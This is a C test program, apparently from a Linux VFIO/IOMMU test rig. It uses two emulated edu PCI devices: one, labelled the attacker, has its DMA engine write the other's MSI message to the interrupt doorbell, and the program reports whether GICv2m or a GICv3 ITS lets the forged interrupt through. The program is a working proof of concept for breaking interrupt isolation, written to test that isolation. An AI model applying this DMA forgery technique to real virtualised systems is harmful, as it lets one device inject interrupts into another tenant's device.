// SPDX-License-Identifier: GPL-2.0
/*
 * vfio-forge MODE: show the threat.  Two edu devices [1234:11e8], each in
 * its own IOMMU group, taken by userspace in one container or IOAS (MODE
 * as for vfio-msi: type1, compat or cdev).  The victim, the first device,
 * enables one MSI and shows that it works.  The attacker, the second,
 * enables its own MSI, which makes the kernel map the MSI doorbell's page
 * in the software MSI window of its IOMMU domain.  Each device's MSI
 * message (the window's IOVA and the data) is read from its real
 * configuration space, where the kernel wrote it.  Then the attacker uses
 * edu's DMA engine (registers 0x80 to 0x98: from memory into its buffer
 * at 0x40000, and back out to any IOVA) to write two messages:
 *
 *  - control: its own, once its MSI has been seen to arrive when edu
 *    raises it.  Its own eventfd must fire: that proves its DMA reaches
 *    the doorbell and that the doorbell takes the write for the
 *    attacker's.  If nothing fires, the DMA carries no requester ID the
 *    doorbell can use (upstream QEMU tags PCI DMA with none: the rig's
 *    QEMU has qemu/patches/0001), and a silent victim next proves
 *    nothing: the result is SKIP.
 *  - forge: the victim's.  Behind a GICv2m frame, which cannot tell
 *    writers apart, the victim's eventfd fires though the victim did
 *    nothing: "forged".  Behind a GICv3 ITS, which takes the DeviceID
 *    from the writer, the victim's message is the attacker's own bytes
 *    (the same doorbell, EventID 0 each): they must raise the attacker's
 *    own interrupt again, which shows that the write arrived, and never
 *    the victim's: "isolated".  Anything else is SKIP.
 *
 * Then, behind an ITS: test-msi is the platform device whose MSIs this
 * guest plays with CPU writes, which carry requester ID 0, so its
 * DeviceID is 0.  With its first vector armed, the attacker's DMA of
 * that vector's EventID raises it only if the DMA carries DeviceID 0
 * too, as upstream QEMU's does.
 *
 * Where the doorbell is comes from the registry (debugfs), for the story.
 *
 * Prints "vfio-forge[MODE]: KEY: VALUE" lines, the last "result: forged",
 * "result: isolated" or "result: SKIP: ...".  Exit status: 0 if the attack
 * ran to the end (whatever it showed), 2 if the attach was refused, 1 on
 * anything else.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/eventfd.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <unistd.h>
#include <linux/iommufd.h>
#include <linux/pci_regs.h>
#include <linux/vfio.h>

#include "lib/edu.h"
#include "lib/vfio.h"

const char *prog = "vfio-forge";

#define EDU_DMA_SRC	0x80
#define EDU_DMA_DST	0x88
#define EDU_DMA_CNT	0x90
#define EDU_DMA_CMD	0x98
#define EDU_DMA_RUN	0x1
#define EDU_DMA_TO_PCI	0x2	/* from edu's buffer out to an IOVA */
#define EDU_DMA_BUF	0x40000

#define PAYLOAD_IOVA	0x100000ULL	/* below edu's 28-bit DMA mask */

/*
 * One DMA of edu's engine; wait for it (edu takes 100 ms of its clock).
 * Its registers are 64-bit, but take 32-bit accesses, which set them
 * whole: every address here is below 4 GiB.
 */
static int edu_dma(struct edu *e, uint32_t src, uint32_t dst, uint32_t cnt,
		   uint32_t dir)
{
	int i;

	edu_wr32(e, EDU_DMA_SRC, src);
	edu_wr32(e, EDU_DMA_DST, dst);
	edu_wr32(e, EDU_DMA_CNT, cnt);
	edu_wr32(e, EDU_DMA_CMD, EDU_DMA_RUN | dir);
	for (i = 0; i < 300; i++) {
		if (!(edu_rd32(e, EDU_DMA_CMD) & EDU_DMA_RUN))
			return 0;
		usleep(10000);
	}
	errno = ETIMEDOUT;
	return fail("edu DMA");
}

/*
 * The first registered doorbell: its base, and whether an ITS owns it;
 * -1 without the registry (stock) or a doorbell.
 */
static int doorbell(unsigned long long *base, int *its)
{
	char line[256], owner[128];
	FILE *f = fopen("/sys/kernel/debug/irq/msi_doorbells", "r");

	if (!f)
		return -1;
	if (!fgets(line, sizeof(line), f) ||
	    sscanf(line, "%llx %*x %*s %127s", base, owner) != 2) {
		fclose(f);
		return -1;
	}
	fclose(f);
	*its = !!strstr(owner, "its@");
	return 0;
}

/*
 * The MSI message the kernel wrote into @bdf: from its real configuration
 * space (sysfs), not VFIO's virtualized view of it.
 */
static int msi_message(const char *bdf, uint64_t *addr, uint32_t *data)
{
	uint8_t cfg[256], pos;
	uint16_t flags, d;
	uint32_t lo, hi = 0;
	char path[128];
	int fd;

	snprintf(path, sizeof(path), "/sys/bus/pci/devices/%s/config", bdf);
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return fail(path);
	if (pread(fd, cfg, sizeof(cfg), 0) != (ssize_t)sizeof(cfg)) {
		close(fd);
		return fail(path);
	}
	close(fd);
	for (pos = cfg[PCI_CAPABILITY_LIST] & ~3; pos; pos = cfg[pos + 1] & ~3)
		if (cfg[pos] == PCI_CAP_ID_MSI)
			break;
	memcpy(&flags, &cfg[pos + PCI_MSI_FLAGS], 2);
	if (!pos || !(flags & PCI_MSI_FLAGS_ENABLE)) {
		errno = ENOENT;
		return fail("no MSI enabled in the configuration space");
	}
	memcpy(&lo, &cfg[pos + PCI_MSI_ADDRESS_LO], 4);
	if (flags & PCI_MSI_FLAGS_64BIT) {
		memcpy(&hi, &cfg[pos + PCI_MSI_ADDRESS_HI], 4);
		memcpy(&d, &cfg[pos + PCI_MSI_DATA_64], 2);
	} else {
		memcpy(&d, &cfg[pos + PCI_MSI_DATA_32], 2);
	}
	*addr = (uint64_t)hi << 32 | lo;
	*data = d;
	return 0;
}

/*
 * The attacker's DMA writes @data to @addr, staged in @buf, which is
 * mapped at PAYLOAD_IOVA, at word @slot.  0 unless the DMA failed.
 */
static int dma_message(struct edu *attacker, uint32_t *buf, int slot,
		       uint32_t data, uint64_t addr)
{
	if (addr > UINT32_MAX) {
		errno = ERANGE;
		return fail("an MSI address above 4 GiB, which edu_dma() cannot aim at");
	}
	buf[slot] = data;
	if (edu_dma(attacker, PAYLOAD_IOVA + 4 * slot, EDU_DMA_BUF + 4 * slot,
		    4, 0) ||
	    edu_dma(attacker, EDU_DMA_BUF + 4 * slot, addr, 4, EDU_DMA_TO_PCI))
		return -1;
	return 0;
}

/*
 * Arm test-msi's first vector, in a container or IOAS of its own, and
 * have the attacker's DMA write that vector's EventID to the doorbell
 * (@buf, at PAYLOAD_IOVA, is the payload memory; its second word is
 * free).  Prints "alias:" lines; 0 unless something failed.
 */
static int alias(struct edu *attacker, uint32_t *buf, uint64_t db_iova)
{
	char name[1][EDU_BDF_LEN] = { "test-msi" };
	struct vfio_device_info dinfo = { .argsz = sizeof(dinfo) };
	struct vfio_irq_info_cap_msi_msgs *msgs;
	struct vfio_irq_info *info;
	int device, fd;
	uint32_t msi;
	uint64_t n;

	if (take(name, 1, &device) < 0)
		return 1;
	if (ioctl(device, VFIO_DEVICE_GET_INFO, &dinfo))
		return fail("VFIO_DEVICE_GET_INFO");
	if (device_ext_irq(device, VFIO_IRQ_TYPE_PLATFORM,
			   VFIO_IRQ_SUBTYPE_PLATFORM_MSI) != (int)dinfo.num_irqs)
		return fail("test-msi's MSI index, after its wired lines");
	msi = dinfo.num_irqs;
	fd = eventfd(0, EFD_NONBLOCK);
	if (fd < 0)
		return fail("eventfd");
	if (set_irqs_index(device, msi, VFIO_IRQ_SET_DATA_EVENTFD |
			   VFIO_IRQ_SET_ACTION_TRIGGER, 0, 1, &fd))
		return fail("SET_IRQS: test-msi's first vector");
	info = irq_info(device, msi);
	msgs = info ? (void *)irq_cap(info, VFIO_IRQ_INFO_CAP_MSI_MSGS) : NULL;
	if (!msgs || !(msgs->msgs[0].flags & VFIO_IRQ_MSI_MSG_ARMED)) {
		free(info);
		return fail("test-msi's first message");
	}
	buf[1] = msgs->msgs[0].data;
	free(info);
	say("alias", "test-msi's vector 0 armed: DeviceID 0, EventID %u", buf[1]);

	if (edu_dma(attacker, PAYLOAD_IOVA + 4, EDU_DMA_BUF + 4, 4, 0) ||
	    edu_dma(attacker, EDU_DMA_BUF + 4, db_iova, 4, EDU_DMA_TO_PCI))
		return 1;
	n = fired(fd, 2000);
	say("alias", n ? "test-msi's vector 0 fired from the attacker's DMA: the DMA carries test-msi's DeviceID, 0" :
	    "test-msi's vector 0 did not fire: the attacker's DMA carries a DeviceID of its own");
	set_irqs_index(device, msi, VFIO_IRQ_SET_DATA_NONE |
		       VFIO_IRQ_SET_ACTION_TRIGGER, 0, 0, NULL);
	close(fd);
	close(device);
	return 0;
}

/* Map @buf at @iova for the devices, in the container or the IOAS. */
static int map_payload(int container, void *buf, size_t len, uint64_t iova)
{
	struct vfio_iommu_type1_dma_map map = {
		.argsz = sizeof(map),
		.flags = VFIO_DMA_MAP_FLAG_READ | VFIO_DMA_MAP_FLAG_WRITE,
		.vaddr = (uintptr_t)buf,
		.iova = iova,
		.size = len,
	};
	struct iommu_ioas_map ioas_map = {
		.size = sizeof(ioas_map),
		.flags = IOMMU_IOAS_MAP_FIXED_IOVA | IOMMU_IOAS_MAP_READABLE |
			 IOMMU_IOAS_MAP_WRITEABLE,
		.ioas_id = ioas_id,
		.user_va = (uintptr_t)buf,
		.length = len,
		.iova = iova,
	};

	if (!strcmp(mode, "cdev")) {
		if (ioctl(container, IOMMU_IOAS_MAP, &ioas_map))
			return fail("IOMMU_IOAS_MAP");
	} else if (ioctl(container, VFIO_IOMMU_MAP_DMA, &map)) {
		return fail("VFIO_IOMMU_MAP_DMA");
	}
	return 0;
}

int main(int argc, char **argv)
{
	uint64_t victim_addr, attacker_addr, n, own, again;
	uint32_t victim_data, attacker_data, *buf;
	int devices[MAX_EDU], container, its = 0;
	struct edu victim, attacker;
	char bdf[MAX_EDU][EDU_BDF_LEN];
	unsigned long long db = 0;

	if (argc > 1)
		mode = argv[1];
	if (find_edus(bdf, MAX_EDU) != 2)
		return fail("needs two edu devices");
	say("devices", "victim %s, attacker %s", bdf[0], bdf[1]);

	container = take(bdf, 2, devices);
	if (container == -2)
		return 2;
	if (container < 0)
		return 1;
	say("attach", "allowed");

	/* The victim's MSI works. */
	if (edu_open(&victim, devices[0]))
		return 1;
	edu_wr32(&victim, EDU_IRQ_RAISE, 1);
	n = edu_fired(&victim, 5000);
	edu_wr32(&victim, EDU_IRQ_ACK, 1);
	say("victim", "own MSI %s, eventfd count %llu",
	    n ? "arrived" : "did not arrive", (unsigned long long)n);
	if (!n)
		return 1;

	/* The attacker's own MSI maps the doorbell in its domain. */
	if (edu_open(&attacker, devices[1]) ||
	    msi_message(bdf[0], &victim_addr, &victim_data) ||
	    msi_message(bdf[1], &attacker_addr, &attacker_data))
		return 1;
	say("messages", "victim %#x to IOVA %#llx, attacker %#x to IOVA %#llx",
	    victim_data, (unsigned long long)victim_addr, attacker_data,
	    (unsigned long long)attacker_addr);
	if (doorbell(&db, &its))
		say("forge", "to a doorbell the kernel does not name (no registry)");
	else
		say("forge", "to doorbell %#llx (%s), through the MSI window", db,
		    its ? "an ITS" : "not an ITS");

	/* Memory the devices can read, the payloads staged there. */
	buf = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
		   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (buf == MAP_FAILED)
		return fail("mmap");
	if (map_payload(container, buf, 4096, PAYLOAD_IOVA))
		return 1;

	/* The attacker's own MSI works when edu raises it. */
	edu_wr32(&attacker, EDU_IRQ_RAISE, 1);
	own = edu_fired(&attacker, 5000);
	edu_wr32(&attacker, EDU_IRQ_ACK, 1);
	say("attacker", "own MSI %s, eventfd count %llu",
	    own ? "arrived" : "did not arrive", (unsigned long long)own);
	if (!own)
		return 1;

	/* The control: the attacker's own message, by its DMA. */
	if (dma_message(&attacker, buf, 2, attacker_data, attacker_addr))
		return 1;
	own = edu_fired(&attacker, 2000);
	n = edu_fired(&victim, 100);
	say("control", own ? "the attacker's own message, written by its DMA, fired its own interrupt (eventfd count %llu)" :
	    "the attacker's own message, written by its DMA, fired nothing: the DMA carries no requester ID the doorbell can use",
	    (unsigned long long)own);
	if (n) {
		say("result", "error: the victim fired at the attacker's own message (eventfd count %llu)",
		    (unsigned long long)n);
		return 1;
	}

	/* The forgery: the victim's message, the same way. */
	if (dma_message(&attacker, buf, 3, victim_data, victim_addr))
		return 1;
	n = edu_fired(&victim, 2000);
	say("victim", n ? "forged MSI arrived, eventfd count %llu, though it raised nothing" :
	    "silent: no MSI arrived (eventfd count %llu)", (unsigned long long)n);
	again = edu_fired(&attacker, 100);
	say("attacker", again ? "its own interrupt of those bytes fired (eventfd count %llu)" :
	    "nothing fired for it (eventfd count %llu)",
	    (unsigned long long)again);
	if (its && alias(&attacker, buf, victim_addr))
		return 1;
	if (n)
		say("result", "forged: the doorbell took the attacker's write of the victim's message for the victim's");
	else if (!own)
		say("result", "SKIP: the attacker's DMA raised nothing, even its own MSI: isolation cannot be shown");
	else if (victim_addr == attacker_addr && victim_data == attacker_data &&
		 again)
		say("result", "isolated: the same bytes raised the attacker's own interrupt, never the victim's");
	else
		say("result", "SKIP: the victim's message raised nothing at all, not even an interrupt of the attacker's: nothing is shown");
	return 0;
}
